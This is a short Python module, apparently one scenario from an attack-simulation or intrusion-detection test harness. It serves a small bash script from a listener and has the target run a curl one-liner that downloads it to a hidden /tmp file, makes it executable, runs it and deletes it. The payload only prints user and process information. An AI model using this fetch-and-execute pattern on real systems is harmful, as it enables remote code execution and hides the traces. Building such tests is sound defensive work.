# SPDX-License-Identifier: Apache-2.0
"""A program fetched from the intruder, made executable, run, and removed."""
import time

from attack import Listener

KIND = "fetched and executed program"
QUIET = False
SERVICES = dict.fromkeys(("nginx", "ftp", "postgres"))
PROGRAM = b"#!/bin/bash\nid\nfor i in 1 2 3 4 5; do ps aux | sort -k3 | tail -2; sleep 1; done\n"


def attack(t):
    def give(connection):
        connection.recv(4096)
        connection.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n" % len(PROGRAM) + PROGRAM)
        connection.shutdown(1)
        time.sleep(1)

    listener = Listener(give)
    out = t.run(f"curl -s http://{t.me}:{listener.port}/x -o /tmp/.x; chmod +x /tmp/.x; /tmp/.x; rm /tmp/.x")
    return out[:60].replace("\n", " ") if "uid=" in out else ""
